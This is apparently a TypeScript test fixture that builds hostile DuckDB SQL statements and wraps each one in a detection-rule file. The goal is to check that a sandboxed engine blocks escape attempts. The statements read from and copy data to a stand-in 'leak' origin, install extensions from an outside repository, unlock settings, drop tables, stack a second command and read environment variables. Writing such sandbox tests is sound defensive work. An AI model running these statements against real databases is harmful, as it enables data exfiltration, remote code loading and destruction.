/** Statements that try to reach a server, to write, or to open the engine's locks. */
export function attacksOn(origin: string): readonly string[] {
	const leak = `${origin}/leak`;
	return [
		`SELECT * FROM read_csv('${leak}.csv?secret=1')`,
		`SELECT * FROM read_text('${leak}.txt')`,
		`SELECT * FROM read_blob('${leak}.bin')`,
		`SELECT * FROM read_parquet('${leak}.parquet')`,
		`SELECT * FROM '${leak}.csv'`,
		`SELECT * FROM "${leak}.csv"`,
		`SELECT * FROM glob('${leak}*')`,
		`SELECT * FROM sniff_csv('${leak}.csv')`,
		`SELECT * FROM query('SELECT * FROM read_csv(''${leak}.csv'')')`,
		`SELECT * FROM query_table('${leak}.csv')`,
		`SELECT (SELECT count(*) FROM read_csv('${leak}.csv')) AS event_ids`,
		`WITH x AS (FROM read_csv('${leak}.csv')) SELECT * FROM x`,
		`COPY (SELECT * FROM events) TO '${leak}.csv'`,
		`COPY events FROM '${leak}.csv'`,
		`EXPORT DATABASE '${leak}'`,
		`IMPORT DATABASE '${leak}'`,
		`ATTACH '${leak}.duckdb' AS outside`,
		"ATTACH ':memory:' AS inside",
		`INSTALL httpfs FROM '${origin}'`,
		`INSTALL json FROM '${origin}'`,
		`LOAD '${leak}.duckdb_extension.wasm'`,
		'LOAD json',
		'LOAD httpfs',
		`CREATE SECRET (TYPE http, EXTRA_HTTP_HEADERS MAP {'a': 'b'})`,
		`SET custom_extension_repository = '${origin}'`,
		'SET enable_external_access = true',
		'SET autoload_known_extensions = true',
		'RESET lock_configuration',
		"SELECT json_extract('{}', '$.a')",
		'DROP TABLE events',
		"INSERT INTO files (path) VALUES ('forged')",
		'SELECT 1; DROP TABLE events',
		'SELECT * FROM duckdb_settings()',
		"SELECT getenv('HOME')",
		'PRAGMA database_list',
		`CREATE MACRO m() AS TABLE SELECT * FROM read_csv('${leak}.csv')`,
	];
}

/** The subset that asks for an address, or for an extension that is not there: without any lock, it would get out. */
export function requestsTo(origin: string): readonly string[] {
	return attacksOn(origin).filter((sql) => sql.includes(origin) || sql.startsWith('LOAD'));
}

/** A pack with one rule per statement. */
export function packOf(statements: readonly string[]): Record<string, string> {
	const files: Record<string, string> = {};
	for (const [index, sql] of statements.entries()) {
		const id = `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`;
		files[`attack/rules/rule-${index}.yml`] = [
			'title: Attack',
			`id: ${id}`,
			'status: test',
			'description: Tries to get out.',
			'author: mallory',
			'date: 2026-11-01',
			'level: high',
			'query: |',
			`  ${sql}`,
			'',
		].join('\n');
	}
	return files;
}
